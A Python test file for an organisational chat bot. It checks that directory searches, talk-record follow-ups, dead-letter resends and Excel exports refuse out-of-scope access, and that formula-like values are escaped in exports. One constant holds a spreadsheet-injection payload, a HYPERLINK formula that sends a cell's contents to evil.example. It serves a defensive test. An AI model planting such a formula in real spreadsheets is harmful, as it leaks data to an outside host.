"""Access leaks closed (issue 16): the directory, talk hints and follow-ups, dead letters, Excel
exports — each attack shown refused, through the real dispatcher on both storage stacks."""
from __future__ import annotations

from sqlalchemy import select, update

from bot.cli.demo import BRANCH_A, BRANCH_B
from bot.messages import Text
from bot.outbox import enqueue
from models.audit import AuditEvent
from models.db import session_scope
from models.org import Person, RoleAssignment, Unit
from models.orgtree import add_person, ensure_unit_path
from models.outbox import OutboxMessage, OutboxStatus
from models.talk import Talk
from tests.activities.test_activities import T0, publish

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"点击领取")'


def _person(db, userid: str) -> Person:
    return db.scalars(select(Person).where(Person.wecom_userid == userid)).one()


def _grant(services, userid: str, role: str, unit_full_name: str) -> None:
    with session_scope(services.session_factory) as db:
        unit = db.scalars(select(Unit).where(Unit.full_name == unit_full_name)).one()
        db.add(RoleAssignment(person_id=_person(db, userid).id, role=role, unit_id=unit.id, source="chat"))


# --- 通讯录 / find ----------------------------------------------------------------------------

def test_find_searches_only_within_the_senders_units(sim):
    leader = sim.say("zhouli", "通讯录 张").text                # leader of 四车间班组
    assert "张三（" in leader and "张三丰（" in leader
    assert "张伟" not in leader                                   # 部件二班组, branch B
    assert "没有找到" in sim.say("zhouli", "通讯录 张伟").text
    assert "没有找到" in sim.say("liqiang", "find zhangwei").text  # secretary of branch A only
    assert "张伟（" in sim.say("chenjing", "通讯录 张伟").text     # secretary of branch B
    everyone = sim.say("wangwei", "通讯录 张").text               # the committee covers both branches
    assert "张三（" in everyone and "张伟（" in everyone


def test_find_treats_percent_and_underscore_literally(sim, services):
    for probe in ("%", "_", "%%", "张%", "__", "\\"):
        out = sim.say("admin", f"通讯录 {probe}").text
        assert "没有找到" in out and "张三（" not in out and "李强（" not in out, probe
    with session_scope(services.session_factory) as db:
        add_person(db, name="百分之%百", unit=ensure_unit_path(db, f"{BRANCH_A}/四车间班组"), wecom_userid="pct")
    out = sim.say("admin", "通讯录 %").text
    assert "找到 1 人" in out and "百分之%百（" in out


def test_party_membership_only_for_party_organisations_and_admins(sim):
    assert "李四（" in sim.say("zhouli", "通讯录 李四").text
    assert "党员" not in sim.say("zhouli", "通讯录 李四").text     # a team leader does not see it
    assert "党员" in sim.say("liqiang", "通讯录 李四").text        # the branch secretary does
    assert "党员" in sim.say("wangwei", "通讯录 李四").text
    assert "党员" in sim.say("admin", "通讯录 李四").text
    assert "党员" not in sim.say("liqiang", "通讯录 张三").text    # and never for a non-member


def test_every_person_shown_by_find_is_audited(sim, services):
    sim.say("zhouli", "通讯录 张")
    with services.session_factory() as db:
        zhouli = _person(db, "zhouli").id
        ids = {_person(db, u).id for u in ("zhangsan", "zhangsanfeng")}
        rows = db.scalars(select(AuditEvent).where(AuditEvent.action == "read", AuditEvent.target_type == "person")).all()
    assert {int(r.target_id) for r in rows} == ids
    assert {(r.actor_id, r.via, r.detail) for r in rows} == {(zhouli, "通讯录", "directory")}


# --- the talk dialog --------------------------------------------------------------------------

def _flagged_talk_by_zhouli(sim, services) -> int:
    sim.say("zhouli", "谈话 张三 专项 波动 家里老人住院 #关注 #家庭")
    sim.press("zhouli", "保存")
    with services.session_factory() as db:
        return db.scalars(select(Talk.id).order_by(Talk.id.desc())).first()


def test_talk_dialog_hints_only_at_flagged_talks_the_author_may_read(sim, services):
    first = _flagged_talk_by_zhouli(sim, services)
    _grant(services, "lisi", "team_leader", f"{BRANCH_A}/四车间班组")   # a second leader of the team
    card = sim.say("lisi", "谈话 张三 季度 稳定 一切正常").replies[-1]
    assert card.title == "确认谈话记录"
    assert f"#{first}" not in card.as_text() and "未跟进的标记谈话" not in card.as_text()
    sim.press("lisi", "取消")
    card = sim.say("liqiang", "谈话 张三 季度 稳定 一切正常").replies[-1]   # the secretary may read it
    assert f"提示：该同志有未跟进的标记谈话 #{first}" in card.as_text()


def test_follow_up_of_an_unreadable_talk_is_refused_however_the_person_was_chosen(sim, services):
    first = _flagged_talk_by_zhouli(sim, services)
    _grant(services, "lisi", "team_leader", f"{BRANCH_A}/四车间班组")
    # the person typed in full: refused before the dialog starts
    assert "没有找到可跟进的谈话" in sim.say("lisi", f"谈话 张三 专项 稳定 回访 跟进:{first}").text
    # the person picked from a list of matches: refused when saving, nothing saved
    out = sim.say("lisi", f"谈话 张 专项 稳定 回访一下 跟进:{first}")
    assert "请选择谈话对象" in out.text
    sim.press("lisi", "张三（四车间班组）")
    out = sim.press("lisi", "保存")
    assert f"跟进的谈话 #{first} 不存在" in out.text
    with services.session_factory() as db:
        assert db.scalars(select(Talk.follows_up_id).where(Talk.author_id == _person(db, "lisi").id)).all() == []
    # the secretary may follow it up either way
    out = sim.say("liqiang", f"谈话 张 专项 稳定 回访一下 跟进:{first}")
    sim.press("liqiang", "张三（四车间班组）")
    assert "已保存" in sim.press("liqiang", "保存").text
    with services.session_factory() as db:
        assert db.scalars(select(Talk.follows_up_id).order_by(Talk.id.desc())).first() == first


# --- 死信 / 重发 --------------------------------------------------------------------------------

def _dead_rows(services) -> dict[str, int]:
    with session_scope(services.session_factory) as db:
        ids = {}
        for who in ("zhangsan", "hanmei", "ghost"):
            [row] = enqueue(db, platform="wecom", recipients=[who], reply=Text(f"给{who}"))
            db.flush()
            ids[who] = row.id
        db.execute(update(OutboxMessage).values(status=OutboxStatus.DEAD, attempts=8, last_error="HTTP 500"))
    return ids


def test_dead_letters_of_a_branch_admin_stay_in_the_branch(sim, services):
    ids = _dead_rows(services)
    _grant(services, "chenjing", "admin", BRANCH_B)
    listing = sim.say("chenjing", "死信").text
    assert f"#{ids['hanmei']} " in listing and "共 1 条" in listing
    assert f"#{ids['zhangsan']} " not in listing and "zhangsan" not in listing and "ghost" not in listing
    out = sim.say("chenjing", f"重发 {ids['zhangsan']} {ids['ghost']}").text
    assert "不能由您重发" in out and "已重新排队" not in out
    assert "已重新排队 1 条" in sim.say("chenjing", "重发 全部").text
    with services.session_factory() as db:
        status = dict(db.execute(select(OutboxMessage.id, OutboxMessage.status)).all())
        denied = db.scalars(select(AuditEvent).where(AuditEvent.action == "authz_fail")).all()
    assert status == {ids["zhangsan"]: "dead", ids["hanmei"]: "pending", ids["ghost"]: "dead"}
    assert [(a.via, a.detail) for a in denied] == [("重发", "roster.admin")]
    # the root admin sees and re-sends the rest, unknown recipients included
    listing = sim.say("admin", "死信").text
    assert f"#{ids['zhangsan']} " in listing and f"#{ids['ghost']} " in listing and "共 2 条" in listing
    assert "已重新排队 2 条" in sim.say("admin", "重发 全部").text


# --- Excel exports ----------------------------------------------------------------------------

def _no_formulas(wb) -> list[str]:
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def test_signup_export_writes_formula_like_text_as_text(sim, clock, services, tmp_path):
    from openpyxl import load_workbook

    from bot.cli.activities import export_signups_xlsx

    clock.set(T0)
    act_id = publish(sim)
    sim.say("zhangsan", f"报名 {act_id}")
    with session_scope(services.session_factory) as db:
        from models.activity import Activity

        db.get(Activity, act_id).title = EVIL
        db.get(Activity, act_id).place = "+86 上海"
        _person(db, "zhangsan").name = "@SUM(1+1)"
    path = tmp_path / "名单.xlsx"
    with services.session_factory() as db:
        export_signups_xlsx(db, act_id, str(path), services.config.timezone)
    wb = load_workbook(path)
    assert _no_formulas(wb) == []
    info = {r[0]: r[1] for r in wb["活动"].iter_rows(values_only=True)}
    assert info["名称"] == "'" + EVIL and info["地点"] == "'+86 上海"
    assert wb.active["B2"].value == "'@SUM(1+1)" and wb.active["A2"].value == 1    # numbers stay numbers


def test_report_writes_formula_like_unit_names_as_text(seeded, tmp_path):
    from openpyxl import load_workbook

    from reports.render.excel import build_workbook
    from tests.seeded_data import NOW

    services = seeded
    with session_scope(services.session_factory) as db:
        db.scalars(select(Unit).where(Unit.name == "四车间班组")).one().name = EVIL
        db.scalars(select(Unit).where(Unit.name == "外航维修党支部")).one().name = "-1+2"
    with services.session_factory() as db:
        root = db.scalars(select(Unit).where(Unit.parent_id.is_(None))).first()
        wb = build_workbook(db, root, "2026Q4", services.config.timezone, now=NOW, config=services.config)
    wb.save(tmp_path / "r.xlsx")
    wb = load_workbook(tmp_path / "r.xlsx")
    assert _no_formulas(wb) == []
    assert "'" + EVIL in [r[0] for r in wb["谈话覆盖-班组"].iter_rows(values_only=True)]
    assert "'-1+2" in [r[0] for r in wb["谈话覆盖-支部"].iter_rows(values_only=True)]


def test_safe_cell_leaves_ordinary_values_alone():
    from reports.render.cells import safe_row

    assert safe_row(["张三", "—", -3, 0.5, None, "a=b", "=1", "\t=1"]) == ["张三", "—", -3, 0.5, None, "a=b", "'=1", "'\t=1"]

